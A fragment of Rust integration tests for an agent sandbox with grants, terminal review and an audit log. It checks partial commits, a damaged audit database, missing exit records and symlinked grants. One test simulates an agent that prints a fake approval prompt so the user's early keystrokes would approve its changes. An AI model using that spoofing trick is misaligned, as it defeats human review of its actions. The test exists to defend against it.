    for flag in [LocalFlags::ECHO, LocalFlags::ICANON, LocalFlags::ISIG] {
        assert_eq!(
            after.contains(flag),
            before.contains(flag),
            "{flag:?} was left changed after the stop: {t}"
        );
    }
}

#[test]
fn run_review_commits_what_was_approved_on_the_terminal() {
    let w = World::new();
    let keep = w.project.join("keep.txt");
    std::fs::write(&keep, "old\n").unwrap();
    chmod(&keep, 0o666);
    let c = w.cmd(&[
        "run",
        "--local",
        "--review",
        "--grant",
        &format!("{}:rw", w.project.display()),
        "--",
        "sh",
        "-c",
        "echo new > keep.txt; echo x > skipped.txt",
    ]);
    let (mut child, mut master) = common::spawn_on_pty(c, false);
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    let start = std::time::Instant::now();
    let mut answered = 0;
    while start.elapsed() < Duration::from_secs(60) {
        match master.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
        let t = String::from_utf8_lossy(&out).into_owned();
        let prompts = t.matches("[q]uit?").count();
        if prompts > answered {
            // Files come in order: approve keep.txt, skip skipped.txt.
            let line = if t.contains("skipped.txt")
                && answered == prompts - 1
                && t.rfind("skipped.txt") > t.rfind("keep.txt")
            {
                "s\n"
            } else {
                "a\n"
            };
            // As a person would: after reading the question (keys typed
            // within the first moments of it are dropped).
            std::thread::sleep(Duration::from_millis(600));
            master.write_all(line.as_bytes()).unwrap();
            answered = prompts;
        }
        if t.contains("committed") {
            break;
        }
    }
    let _ = child.wait();
    let t = String::from_utf8_lossy(&out);
    assert_eq!(std::fs::read_to_string(&keep).unwrap(), "new\n", "{t}");
    assert!(!w.project.join("skipped.txt").exists(), "{t}");
    // The audit log knows: one file was left out, so partly committed.
    let o = output_within(w.cmd(&["tasks", "--json"]), Duration::from_secs(60));
    let task: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(task["state"], "partly_committed", "{task}");
}

/// Pass 8B: the agent asked "Apply [a]?" once per change it made, and
/// the user's answers, unread while the task ran, then approved the
/// review. Only keys typed after a review question count.
#[test]
fn keys_typed_while_the_task_ran_never_answer_the_review() {
    let w = World::new();
    let keep = w.project.join("keep.txt");
    std::fs::write(&keep, "old\n").unwrap();
    chmod(&keep, 0o666);
    let c = w.cmd(&[
        "run",
        "--local",
        "--review",
        "--grant",
        &format!("{}:rw", w.project.display()),
        "--",
        "sh",
        "-c",
        "echo tampered > keep.txt; echo 'Agent: step ready. Apply [a] / skip [s]?'; sleep 2",
    ]);
    // The user answers the agent's question while it runs, then looks at
    // the review's question and leaves.
    let t = common::drive_on_pty(
        c,
        false,
        &[
            ("Apply [a]", b"a\na\n", Duration::ZERO),
            ("[q]uit?", b"q\n", Duration::from_secs(2)),
        ],
    );
    assert!(t.contains("[q]uit?"), "{t}");
    assert_eq!(std::fs::read_to_string(&keep).unwrap(), "old\n", "{t}");
    assert!(t.contains("Nothing was committed"), "{t}");
}

/// The review commits grant by grant: one committed before the user quits
/// (or before an error in a later grant) is in the audit log all the same
/// (pass 19B: it went unrecorded, and the review said "Nothing was
/// committed" after a commit).
#[test]
fn a_review_left_after_one_grant_logs_what_it_committed() {
    let w = World::new();
    let (one, two) = (w.project.join("one"), w.project.join("two"));
    for d in [&one, &two] {
        std::fs::create_dir(d).unwrap();
        std::fs::write(d.join("a.txt"), "user\n").unwrap();
        chmod(d, 0o777);
        chmod(&d.join("a.txt"), 0o666);
    }
    let c = w.cmd(&[
        "run",
        "--local",
        "--review",
        "--grant",
        &format!("{}:rw", one.display()),
        "--grant",
        &format!("{}:rw", two.display()),
        "--",
        "sh",
        "-c",
        &format!(
            "echo agent >> {}/a.txt; echo agent >> {}/a.txt",
            one.display(),
            two.display()
        ),
    ]);
    let t = common::drive_on_pty(
        c,
        false,
        &[
            ("[q]uit?", b"a\n", Duration::from_millis(500)),
            ("changes committed.", b"q\n", Duration::from_secs(1)),
        ],
    );
    assert_eq!(
        std::fs::read_to_string(one.join("a.txt")).unwrap(),
        "user\nagent\n",
        "{t}"
    );
    assert_eq!(
        std::fs::read_to_string(two.join("a.txt")).unwrap(),
        "user\n",
        "{t}"
    );
    assert!(t.contains("Nothing more was committed"), "{t}");
    let o = output_within(w.cmd(&["tasks", "--json"]), Duration::from_secs(60));
    let task: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(task["state"], "partly_committed", "{task}\n{t}");
}

#[test]
fn a_damaged_audit_database_stops_the_task_before_it_runs_and_names_the_file() {
    let w = World::new();
    let db = w.path().join("data/airlock/audit.db");
    std::fs::create_dir_all(db.parent().unwrap()).unwrap();
    std::fs::write(&db, vec![b'x'; 4096]).unwrap();
    let grant = format!("{}:rw", w.project.display());
    let o = w.run(&["--grant", &grant], "echo ran > ran.txt");
    let t = text(&o);
    assert!(!o.status.success(), "{t}");
    assert!(t.contains(&db.display().to_string()), "{t}");
    // The agent never ran: nothing in the task's layer, nothing outside.
    for task in w.tasks() {
        let found = std::process::Command::new("find")
            .args([task.to_str().unwrap(), "-name", "ran.txt"])
            .output()
            .unwrap();
        assert!(found.stdout.is_empty(), "{:?}", found);
    }
    assert!(!w.project.join("ran.txt").exists());
    // The file is left as it was, for the user to move away.
    assert_eq!(std::fs::read(&db).unwrap(), vec![b'x'; 4096]);
}

/// Pass 8A: when the state folder was full as the task ended, exit.json
/// could not be written, and the task stayed "still running" for every
/// review command for good, although nothing of it was alive. A task
/// whose supervisor and sandbox are gone has ended, whatever was written.
#[test]
fn a_task_whose_end_was_not_written_can_still_be_reviewed_and_rejected() {
    let w = World::new();
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display())],
        "echo x > written.txt",
    );
    assert!(o.status.success(), "{}", text(&o));
    let task = w.tasks().pop().unwrap();
    let id = task.file_name().unwrap().to_str().unwrap().to_string();
    std::fs::remove_file(task.join("exit.json")).unwrap();
    let o = w.cmd(&["changes", &id]).output().unwrap();
    assert!(
        o.status.success() && text(&o).contains("written.txt"),
        "{}",
        text(&o)
    );
    let o = w.cmd(&["reject", &id]).output().unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(!w.project.join("written.txt").exists());
}

/// A file granted by a link (dotfile managers keep `~/.gitconfig` as one)
/// is there at the path it was granted by, not only at its real path.
#[test]
fn a_grant_given_by_a_link_is_there_by_that_name_too() {
    let w = World::new();
    let real = w.home.join("dotfiles/gitconfig");
    std::fs::create_dir_all(real.parent().unwrap()).unwrap();
    std::fs::write(&real, "[user]\n\tname = Someone\n").unwrap();
    chmod(real.parent().unwrap(), 0o755);
    chmod(&real, 0o644);
    let link = w.home.join(".gitconfig");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let o = w.run(
        &["--grant", &format!("{}:ro", link.display())],
        &format!("cat {}", link.display()),
    );
    assert!(
        o.status.success() && text(&o).contains("name = Someone"),
        "{}",
        text(&o)
    );
}
